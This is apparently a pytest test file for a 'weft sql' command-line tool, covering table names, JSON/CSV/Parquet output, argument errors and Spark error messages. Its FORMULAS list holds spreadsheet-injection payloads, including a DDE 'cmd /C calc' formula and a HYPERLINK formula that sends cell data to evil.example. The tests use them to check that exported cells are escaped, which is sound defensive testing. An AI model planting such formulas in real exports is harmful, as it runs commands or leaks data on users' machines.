"""``weft sql``: names of the table, formats of results, scripts, and values without a form in text or JSON."""

from __future__ import annotations

import datetime as dt
import decimal
import io
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from pyspark.errors import PySparkException
from pyspark.sql import Row
from typer.testing import CliRunner

from tests.storage.support.shop import SHOP, append, orders
from weft import Table
from weft.storage.core.python_values import python_rows
from weft.storage.errors import InvalidInput
from weft.streams.cli.main import app
from weft.streams.cli.query import Format, _replacing, _write
from weft.streams.pipeline.file.model import TableLocation
from weft.streams.read.plain_values import csv_cell, json_value, spreadsheet_cell
from weft.streams.read.sql_query import spark_errors, view_names

SQL_SECONDS = 240.0  # starts a JVM on a busy machine


@pytest.mark.parametrize(
    ("folder", "names"), [("t", ("t",)), ("T", ("t",)), ("Wide", ("t", "Wide")), ("2024-t", ("t", "_2024_t"))]
)
def test_a_table_is_called_t_or_by_its_folder(folder: str, names: tuple[str, ...]) -> None:
    assert view_names(TableLocation(f"s3://bucket/{folder}/")) == names


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (Row(x=1, y=Row(z=None)), '{"x": 1, "y": {"z": null}}'),
        ([(1, float("nan")), float("inf"), -float("inf"), 1.5], '[[1, "NaN"], "Infinity", "-Infinity", 1.5]'),
        ({1: decimal.Decimal("1.50"), "k": b"\xff"}, '{"1": "1.50", "k": "ff"}'),
        ([dt.date(1500, 2, 28), True, 0], '["1500-02-28", true, 0]'),
    ],
)
def test_values_are_written_as_strict_json(value: Any, text: str) -> None:
    assert json.dumps(json_value(value), allow_nan=False) == text


def test_a_map_is_a_mapping_wherever_rows_come_from() -> None:
    """Arrow gives lists of pairs, in which an empty map looks like an empty list; Spark gives mappings."""
    maps = pa.array([[("travel", 14.36)], [], None], pa.map_(pa.string(), pa.float64()))
    nested = pa.array(
        [[[(1, [("x", None)])]], [[]], []], pa.list_(pa.map_(pa.int64(), pa.map_(pa.string(), pa.int8())))
    )
    twice = pa.array([[("a", 1), ("a", 2)], [], None], pa.map_(pa.string(), pa.int64()))
    rows = [[csv_cell(value) for value in row] for row in python_rows(pa.table([maps, nested], ["m", "n"]))]
    assert rows == [['{"travel": 14.36}', '[{"1": {"x": null}}]'], ["{}", "[{}]"], ["", "[]"]]
    assert python_rows(pa.table([twice], ["m"]))[0] == ([("a", 1), ("a", 2)],), "no value is lost"


FORMULAS = [
    *("=1+1", "=cmd|' /C calc'!Q7", '=HYPERLINK("http://evil.example?"&Q1)', "+1+1", "-1+1", "-2+3+cmd|' /C calc'!Q7"),
    *(
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1",
        "\tx",
        " =1+1",
        "\u00a0=1",
        "\ufeff=1",
        "\uff1d1",
        "\uff201",
        "-",
        "+",
        "--1",
    ),
    *("-1e5x", "-1\n", "-\u0661", "-1,5", "+(1)"),
]
"""Texts that a spreadsheet would calculate: OWASP's, and those that trackers of other exporters name."""


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_is_no_formula_in_a_spreadsheet_and_exact_for_programs(text: str) -> None:
    assert spreadsheet_cell(text) == f"'{text}"
    assert csv_cell(text) == text


@pytest.mark.parametrize(
    "value",
    [
        *(
            -5,
            -1.5,
            decimal.Decimal("-5.00"),
            "-5",
            "+4912345",
            "-1.5e-7",
            float("-inf"),
            "",
            None,
            "a=1",
            "a-b",
            "'=1",
        ),
        *([-1, "=1"], {"=k": 1}, b"=1", dt.date(2026, 1, 1), "\u2212x", "new\tline"),
    ],
)
def test_other_values_are_the_same_in_a_spreadsheet(value: Any) -> None:
    assert spreadsheet_cell(value) == csv_cell(value)


@pytest.mark.spark
@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("SELECT x.id, y.id FROM t x JOIN T y USING (status)", "several columns called 'id'"),
        ("SELECT timestamp'-0100-01-01 00:00:00Z' FROM T", "Python cannot represent a value of the answer: year -100"),
    ],
)
def test_values_without_a_json_form_are_refused(tmp_path: Path, query: str, message: str) -> None:
    table = Table.create(tmp_path / "T", SHOP)  # Spark ignores case
    append(table, orders(1))
    done = subprocess.run(
        [sys.executable, "-m", "weft.streams.cli.main", "sql", table.uri, query, "--json"],
        capture_output=True,
        text=True,
        timeout=SQL_SECONDS,
        check=False,
    )
    assert done.returncode == 1
    assert message in done.stderr
    assert "Traceback" not in done.stderr
    assert done.stdout == ""


@pytest.mark.parametrize(
    ("arguments", "given", "message"),
    [
        (["SELECT 1", "--file", "x.sql"], "", "a query and --file"),
        (["--file", "x.sql"], "", "cannot read x.sql"),
        ([], "", "there is no query"),
        ([], " -- nothing\n;", "there is no query"),
        (["SELECT 1", "--json", "--format", "csv"], "", "--json and --format csv"),
        (["SELECT 1", "--format", "parquet"], "", "--format parquet: a file is missing"),
        (["SELECT 1; SELECT 2", "--output", "x"], "", "--output is for the result of one query"),
        (["SELECT 1", "--explain", "--format", "csv"], "", "--explain prints a table, or JSON"),
    ],
)
def test_a_wrong_command_line(tmp_path: Path, arguments: list[str], given: str, message: str) -> None:
    refused = CliRunner().invoke(app, ["sql", str(tmp_path / "none"), *arguments], input=given)
    assert refused.exit_code == 2, refused.output
    assert message in refused.stderr


JSON_LINES = """{"n": 1, "x": null, "s": "a, \\"b\\"", "l": ["2024-01-31"]}
{"n": 2, "x": 1.5, "s": "", "l": null}
"""
ROWS = [(1, None, 'a, "b"', [dt.date(2024, 1, 31)]), (2, 1.5, "", None)]


@pytest.mark.parametrize(
    ("form", "text"),
    [
        ("csv", 'n,x,s,l\n1,,"a, ""b""","[""2024-01-31""]"\n2,1.5,,\n'),
        (
            "json",
            '{"n": 1, "x": null, "s": "a, \\"b\\"", "l": ["2024-01-31"]}\n{"n": 2, "x": 1.5, "s": "", "l": null}\n',
        ),
    ],
)
def test_a_result_as_text(form: Format, text: str) -> None:
    file = io.StringIO(newline="")
    _write(["n", "x", "s", "l"], ROWS, form, file)
    assert file.getvalue() == text


def test_a_file_is_replaced_when_it_is_whole(tmp_path: Path) -> None:
    target = tmp_path / "result.csv"
    target.write_text("before")
    with pytest.raises(KeyError), _replacing(target) as path:  # noqa: PT012
        path.write_text("half")
        raise KeyError
    assert [file.name for file in tmp_path.iterdir()] == ["result.csv"]
    assert target.read_text() == "before"
    with _replacing(target) as path:
        path.write_text("after")
    assert target.read_text() == "after"
    with pytest.raises(InvalidInput, match="cannot write"), _replacing(tmp_path / "no" / "x") as path:
        path.write_text("x")


@pytest.mark.parametrize(
    ("text", "message", "hint"),
    [
        ("[TABLE_OR_VIEW_NOT_FOUND] The table x;\n'Project [*]", "[TABLE_OR_VIEW_NOT_FOUND] The table x", "names"),
        ("InvalidInput: no UPDATE\n  hint: INSERT is one", "InvalidInput: no UPDATE", "INSERT is one"),
        ("[USER_RAISED_EXCEPTION] InvalidInput: a\n  hint: b SQLSTATE: P0001", "InvalidInput: a", "b"),
    ],
)
def test_an_error_of_a_statement_has_one_hint(text: str, message: str, hint: str) -> None:
    with pytest.raises(InvalidInput) as raised, spark_errors("names"):
        raise PySparkException(message=text)
    assert (raised.value.message, raised.value.hint) == (message, hint)


def sql(table: Table, *arguments: str | Path, given: str = "") -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "weft.streams.cli.main", "sql", table.uri, *map(str, arguments)]
    return subprocess.run(command, input=given, capture_output=True, text=True, timeout=SQL_SECONDS, check=False)


@pytest.mark.spark
@pytest.mark.extended
def test_a_script_prints_each_result_and_stops_at_an_error(tmp_path: Path) -> None:
    table = Table.create(tmp_path / "wide", SHOP)
    append(table, orders(1, 2, 3))
    script = """-- three rows
SET spark.sql.ansi.enabled = true;
CREATE TEMPORARY VIEW newest AS SELECT max(id) AS id FROM wide;
SELECT id, status FROM t ORDER BY id;

SELECT nope FROM newest;
SELECT 'never';
"""
    done = sql(table, "--format", "csv", "--limit", "2", given=script)
    assert done.returncode == 1
    assert done.stdout == "key,value\nspark.sql.ansi.enabled,true\nid,status\n1,new\n2,new\n"
    lines = done.stderr.splitlines()
    assert lines[0] == "the first 2 rows; --limit shows more"
    assert lines[1].startswith("line 6: [UNRESOLVED_COLUMN")


@pytest.mark.spark
@pytest.mark.extended
def test_a_result_as_a_parquet_file_has_all_rows_and_their_types(tmp_path: Path) -> None:
    table = Table.create(tmp_path / "wide", SHOP)
    append(table, orders(*range(250)))
    query = tmp_path / "query.sql"
    query.write_text("SELECT id, cast(id AS decimal(9,2)) AS price, array(status) AS words FROM t ORDER BY id;")
    target = tmp_path / "result.parquet"
    done = sql(table, "--file", query, "--format", "parquet", "--output", target)
    assert (done.returncode, done.stdout, done.stderr) == (0, "", f"250 rows in {target}\n")
    found = pq.read_table(target)
    assert found["id"].to_pylist() == list(range(250))
    assert [str(field.type) for field in found.schema][:2] == ["int64", "decimal128(9, 2)"]
    assert found["words"].to_pylist()[0] == ["new"]


def test_options_of_reads_are_for_one_table(tmp_path: Path) -> None:
    Table.create(tmp_path / "lake" / "shop" / "wide", SHOP)
    refused = CliRunner().invoke(app, ["sql", str(tmp_path / "lake"), "SELECT 1", "--read-optimized"])
    assert refused.exit_code == 2
    assert "has several tables, each with its own snapshots" in refused.stderr


@pytest.mark.spark
@pytest.mark.extended
def test_a_folder_of_tables_is_a_catalog(tmp_path: Path) -> None:
    for name in ("shop/wide", "eu/other"):
        append(Table.create(tmp_path / name, SHOP), orders(1, 2))
    command = [sys.executable, "-m", "weft.streams.cli.main", "sql", str(tmp_path), "--json"]
    script = "SELECT count(*) AS n FROM shop.wide JOIN eu.other USING (id); SHOW TABLES IN shop; SELECT * FROM nope;"
    done = subprocess.run(command, input=script, capture_output=True, text=True, timeout=SQL_SECONDS, check=False)
    lines = [json.loads(line) for line in done.stdout.splitlines()]
    assert lines, done.stderr
    assert lines == [{"n": 2}, {"namespace": "shop", "tableName": "wide", "isTemporary": False}]
    assert done.returncode == 1
    assert "TABLE_OR_VIEW_NOT_FOUND" in done.stderr
    assert "hint: list the tables with SHOW NAMESPACES" in done.stderr
